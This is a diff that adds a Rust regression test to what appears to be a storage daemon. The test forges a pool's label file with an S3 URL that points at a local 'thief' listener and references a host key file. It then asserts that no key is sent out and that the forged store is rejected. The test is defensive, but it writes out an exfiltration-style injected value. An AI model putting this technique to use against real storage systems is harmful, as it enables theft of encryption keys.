@@ -606,3 +606,32 @@ async fn clients_go_on_with_this_daemon_until_the_next_one_has_them() {
     assert!(requests > 20 && longest < Duration::from_secs(10), "{requests} requests, {longest:?}");
     engine.shutdown().await.unwrap();
 }
+
+/// Whoever writes to one store can have its label list any URL, also one that takes a key file of the host which opens it.
+#[allow(clippy::disallowed_methods)] // forges a store's label from outside
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_forged_label_sends_no_key_of_this_host_anywhere() {
+    let dir = tempfile::tempdir().unwrap();
+    let maker = state(dir.path(), "maker").await;
+    let stores = folders(dir.path(), &["s0", "s1", "s2"]);
+    make_pool(&maker, "p", &stores).await.unwrap();
+    assert!(maker.pools.shutdown(Duration::from_secs(5)).await.is_empty());
+    let key = dir.path().join("key");
+    std::fs::write(&key, [7; 32]).unwrap();
+    let thief = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    thief.set_nonblocking(true).unwrap();
+    let at = thief.local_addr().unwrap();
+    let evil = format!("s3://b?endpoint=http://{at}&region=r&anonymous=true&sse=c:{}", key.display());
+    let label = dir.path().join("s0/label");
+    let text = std::fs::read_to_string(&label).unwrap();
+    let forged = text.replace(&stores[2], &evil).replace("\"generation\":0", "\"generation\":1");
+    assert_ne!(forged, text);
+    std::fs::write(&label, forged).unwrap();
+    let other = state(dir.path(), "other").await;
+    let name: Name = "p".parse().unwrap();
+    // What becomes of the pool is another matter.
+    let _ = other.pools.add(&name, stores[..2].to_vec()).await;
+    assert!(thief.accept().is_err(), "something of this host went to a stranger");
+    assert!(other.pools.known().iter().all(|known| !known.stores.contains(&evil)));
+    assert!(other.pools.shutdown(Duration::from_secs(5)).await.is_empty());
+}
